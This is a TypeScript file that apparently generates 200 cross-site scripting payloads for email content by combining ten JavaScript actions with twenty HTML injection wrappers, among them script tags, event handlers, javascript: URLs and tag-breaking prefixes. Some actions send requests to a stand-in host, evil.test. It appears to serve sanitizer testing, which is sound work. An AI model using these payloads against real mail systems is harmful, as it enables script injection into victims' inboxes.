/** Two hundred ways to smuggle something that runs into an email: each kind of markup with each way to trigger it. */
const ACTS = [
  "ran(1)",
  "ran`1`",
  "window['ran'](1)",
  "alert(1)",
  "top.alert(1)",
  "eval('ran(1)')",
  "setTimeout('ran(1)')",
  "Function('ran(1)')()",
  "fetch('http://evil.test/')",
  "location='http://evil.test/'",
];

const SHELLS: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `"><script>${act}</script>`,
  (act) => `</div><script>${act}</script>`,
  (act) => `</title></style></textarea><script>${act}</script>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<body onload="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<a href="javascript:${act}" autofocus>x</a>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<style>@import 'http://evil.test/x.css';</style><script>${act}</script>`,
  (act) => `<!--><img src=x onerror="${act}">-->`,
  (act) => `&lt;/div&gt;<ScRiPt>${act}</sCrIpT>`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<form action="javascript:${act}"><button autofocus>x</button></form>`,
];

export const payloads: string[] = SHELLS.flatMap((shell) => ACTS.map(shell));
